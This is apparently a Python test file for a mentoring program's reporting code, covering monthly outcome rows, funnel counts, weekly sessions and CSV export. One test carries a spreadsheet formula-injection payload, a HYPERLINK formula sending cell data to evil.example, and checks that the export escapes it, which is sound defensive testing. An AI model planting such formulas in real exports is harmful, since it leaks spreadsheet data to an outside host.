"""Program outcomes aggregated from rows; without I/O."""

import csv
import io
from datetime import UTC, date, datetime
from uuid import uuid4

from hypothesis import given
from hypothesis import strategies as st

from crossgen_sessions.outcomes import report
from crossgen_sessions.outcomes.report import (
    PairingFacts,
    ProgramFacts,
    RatingFacts,
    SessionFacts,
)

UNTIL = datetime(2030, 3, 20, 12, 0, tzinfo=UTC)


def at(month: int, day: int = 10) -> datetime:
    return datetime(2030, month, day, 9, 0, tzinfo=UTC)


def ratings(score: int, **other: int) -> dict[str, int]:
    return {benefit: other.get(benefit, score) for benefit in report.BENEFITS}


JAN = PairingFacts(uuid4(), opened_at=at(1, 5), ended_at=None)
JAN_ENDED = PairingFacts(uuid4(), opened_at=at(1, 20), ended_at=at(2, 3))
FEB = PairingFacts(uuid4(), opened_at=at(2, 1), ended_at=None, mentor_department="Sales")
FACTS = ProgramFacts(
    pairings=[JAN, JAN_ENDED, FEB],
    sessions=[
        SessionFacts(JAN.id, "completed", at(1, 12), held_minutes=60),
        SessionFacts(JAN_ENDED.id, "completed", at(1, 25), held_minutes=30),
        SessionFacts(JAN.id, "completed", at(3, 2), held_minutes=45),
        SessionFacts(JAN.id, "no_show", at(2, 9)),
        SessionFacts(FEB.id, "cancelled", at(2, 20)),
        SessionFacts(FEB.id, "scheduled", at(3, 25)),
    ],
    ratings=[
        RatingFacts(JAN.id, "learner", at(1, 12), ratings(4)),
        RatingFacts(JAN_ENDED.id, "learner", at(1, 25), ratings(2, skills=5)),
        RatingFacts(JAN.id, "mentor", at(1, 12), ratings(5)),
        RatingFacts(JAN.id, "learner", at(3, 2), ratings(5, skills=3)),
    ],
)


def row(rows: list[report.OutcomeRow], cohort: str, side: str, month: str) -> report.OutcomeRow:
    [found] = [r for r in rows if (r.cohort, r.side, r.month) == (cohort, side, month)]
    return found


def test_each_side_of_each_cohort_is_reported_month_by_month() -> None:
    rows = report.outcomes(FACTS, until=UNTIL)
    assert [(r.cohort, r.department, r.side, r.month) for r in rows] == [
        ("2030-01", "unknown", "learner", "2030-01"),
        ("2030-01", "unknown", "learner", "2030-02"),
        ("2030-01", "unknown", "learner", "2030-03"),
        ("2030-01", "unknown", "mentor", "2030-01"),
        ("2030-01", "unknown", "mentor", "2030-02"),
        ("2030-01", "unknown", "mentor", "2030-03"),
        ("2030-02", "Sales", "mentor", "2030-02"),
        ("2030-02", "Sales", "mentor", "2030-03"),
        ("2030-02", "unknown", "learner", "2030-02"),
        ("2030-02", "unknown", "learner", "2030-03"),
    ]


def test_activity_hours_and_averages_per_month() -> None:
    rows = report.outcomes(FACTS, until=UNTIL)
    january = row(rows, "2030-01", "learner", "2030-01")
    assert (january.pairings_active, january.sessions_held, january.hours) == (2, 2, 1.5)
    assert january.ratings == 2
    assert january.averages["knowledge"] == 3.0 and january.averages["skills"] == 4.5
    assert set(january.change.values()) == {None}

    february = row(rows, "2030-01", "learner", "2030-02")
    # the pairing that ended on 3 February was still active in February
    assert (february.pairings_active, february.sessions_held, february.hours) == (2, 0, 0.0)
    assert february.ratings == 0 and set(february.averages.values()) == {None}

    march = row(rows, "2030-01", "learner", "2030-03")
    assert (march.pairings_active, march.sessions_held, march.hours) == (1, 1, 0.75)
    # compared with the last month that had ratings: January
    assert march.averages["knowledge"] == 5.0 and march.change["knowledge"] == 2.0
    assert march.averages["skills"] == 3.0 and march.change["skills"] == -1.5


def test_mentors_are_reported_on_their_own_ratings() -> None:
    rows = report.outcomes(FACTS, until=UNTIL)
    mentors = row(rows, "2030-01", "mentor", "2030-01")
    assert mentors.sessions_held == 2 and mentors.ratings == 1
    assert set(mentors.averages.values()) == {5.0}


def test_the_csv_export_has_a_header_and_a_line_per_row() -> None:
    rows = report.outcomes(FACTS, until=UNTIL)
    parsed = list(csv.DictReader(io.StringIO(report.as_csv(rows))))
    assert len(parsed) == len(rows)
    assert tuple(parsed[0]) == report.CSV_COLUMNS
    march = parsed[2]
    assert (march["cohort"], march["side"], march["month"], march["hours"]) == (
        "2030-01",
        "learner",
        "2030-03",
        "0.75",
    )
    assert (march["skills"], march["skills_change"]) == ("3.0", "-1.5")
    assert parsed[1]["knowledge"] == "" and parsed[1]["knowledge_change"] == ""


def test_a_department_a_spreadsheet_would_run_as_a_formula_is_exported_as_text() -> None:
    """Departments come from the HRIS: a cell starting with = (or +, -, @) would be a formula
    in the program admin's spreadsheet, one that can fetch a URL with the sheet's data."""
    formula = '=HYPERLINK("https://evil.example/?"&A1,"Sales")'
    pairing = PairingFacts(uuid4(), opened_at=at(1), ended_at=None, learner_department=formula)
    rows = report.outcomes(ProgramFacts([pairing], [], []), until=UNTIL)
    parsed = list(csv.DictReader(io.StringIO(report.as_csv(rows))))
    learner = next(line for line in parsed if line["side"] == "learner")
    assert learner["department"] == "'" + formula
    assert {line["department"] for line in parsed if line["side"] == "mentor"} == {"unknown"}


def test_the_funnel_counts_how_far_pairings_got() -> None:
    assert report.funnel(FACTS, at_risk=1) == report.Funnel(
        accepted=3, scheduled=3, met=2, rated=2, active=2, ended=1, at_risk=1
    )


def test_sessions_per_week_cover_the_last_weeks_up_to_now() -> None:
    weeks = report.sessions_per_week(FACTS, until=UNTIL, weeks=12)
    assert len(weeks) == 12
    assert weeks[-1].week == "2030-W12" and weeks[-1].starts_on == date(2030, 3, 18)
    assert weeks[0].starts_on == date(2029, 12, 31) and weeks[0].week == "2030-W01"
    by_week = {w.week: (w.held, w.no_shows) for w in weeks if w.held or w.no_shows}
    assert by_week == {
        "2030-W02": (1, 0),
        "2030-W04": (1, 0),
        "2030-W06": (0, 1),
        "2030-W09": (1, 0),
    }


def test_the_benefit_profile_averages_each_side_over_the_program() -> None:
    profile = report.benefit_profile(FACTS)
    assert profile["learner"]["knowledge"] == round((4 + 2 + 5) / 3, 2)
    assert profile["learner"]["skills"] == 4.0
    assert set(profile["mentor"].values()) == {5.0}
    assert report.hours_held(FACTS) == 2.25


def test_months_run_across_a_year_end() -> None:
    assert report.months("2029-11", "2030-02") == ["2029-11", "2029-12", "2030-01", "2030-02"]


months_2030 = st.integers(1, 3)


@given(
    st.lists(st.tuples(st.integers(0, 2), months_2030, st.integers(0, 8).map(lambda q: q * 15))),
    st.lists(st.tuples(st.integers(0, 2), st.sampled_from(["learner", "mentor"]), months_2030)),
)
def test_rows_add_up_to_the_program(
    held: list[tuple[int, int, int]], rated: list[tuple[int, str, int]]
) -> None:
    pairings = [JAN, JAN_ENDED, FEB]
    facts = ProgramFacts(
        pairings=pairings,
        sessions=[
            SessionFacts(pairings[p].id, "completed", at(max(m, 2)), held_minutes=minutes)
            for p, m, minutes in held
        ],
        ratings=[
            RatingFacts(
                pairings[p].id,
                "learner" if side == "learner" else "mentor",
                at(max(m, 2)),
                ratings(3),
            )
            for p, side, m in rated
        ],
    )
    rows = report.outcomes(facts, until=UNTIL)
    for side in report.SIDES:
        mine = [r for r in rows if r.side == side]
        assert sum(r.sessions_held for r in mine) == len(held)
        assert sum(r.ratings for r in mine) == sum(1 for _, s, _ in rated if s == side)
        assert sum(r.hours for r in mine) == sum(m for _, _, m in held) / 60  # quarter hours


departments = st.sampled_from(["Sales", "Design", report.UNKNOWN_DEPARTMENT])
moments = st.tuples(st.integers(1, 3), st.integers(1, 28)).map(lambda md: at(*md))


@st.composite
def programs(draw: st.DrawFn) -> ProgramFacts:
    """Pairings opened and ended in any order of months, with sessions and ratings on them."""
    pairings = [
        PairingFacts(uuid4(), opened, draw(st.none() | moments), learner, mentor)
        for opened, learner, mentor in draw(st.lists(st.tuples(moments, departments, departments)))
    ]
    if not pairings:
        return ProgramFacts([], [], [])
    ids = st.sampled_from([p.id for p in pairings])
    statuses = st.sampled_from(["completed", "no_show", "scheduled"])
    return ProgramFacts(
        pairings=pairings,
        sessions=draw(
            st.lists(st.builds(SessionFacts, ids, statuses, moments, st.integers(0, 90)))
        ),
        ratings=draw(
            st.lists(
                st.builds(
                    RatingFacts,
                    ids,
                    st.sampled_from(report.SIDES),
                    moments,
                    st.integers(1, 5).map(ratings),
                )
            )
        ),
    )


def month_bounds(month: str) -> tuple[datetime, datetime]:
    year, number = map(int, month.split("-"))
    start = datetime(year, number, 1, tzinfo=UTC)
    return start, datetime(year + number // 12, number % 12 + 1, 1, tzinfo=UTC)


def active_between(pairing: PairingFacts, start: datetime, end: datetime) -> bool:
    return pairing.opened_at < end and (pairing.ended_at is None or pairing.ended_at >= start)


@given(programs())
def test_each_row_counts_its_groups_pairings_sessions_and_ratings_in_its_month(
    facts: ProgramFacts,
) -> None:
    rows = report.outcomes(facts, until=UNTIL)
    seen = set()
    for r in rows:
        start, end = month_bounds(r.month)
        members = [
            p
            for p in facts.pairings
            if (report.month_of(p.opened_at), p.department(r.side)) == (r.cohort, r.department)
        ]
        ids = {p.id for p in members}
        held = [
            s
            for s in facts.sessions
            if s.pairing_id in ids and s.status == "completed" and start <= s.at < end
        ]
        rated = [
            x
            for x in facts.ratings
            if x.pairing_id in ids and x.side == r.side and start <= x.at < end
        ]
        assert r.pairings_active == sum(active_between(p, start, end) for p in members)
        assert (r.sessions_held, r.hours) == (
            len(held),
            round(sum(s.held_minutes for s in held) / 60, 2),
        )
        assert r.ratings == len(rated)
        assert r.pairings_active or r.sessions_held or r.ratings
        seen.add((r.cohort, r.department, r.side, r.month))
    # Every month of a group that had anything in it has its row.
    for p in facts.pairings:
        for side in report.SIDES:
            key = (report.month_of(p.opened_at), p.department(side), side)
            for month in report.months(key[0], report.month_of(UNTIL)):
                if active_between(p, *month_bounds(month)):
                    assert (*key, month) in seen
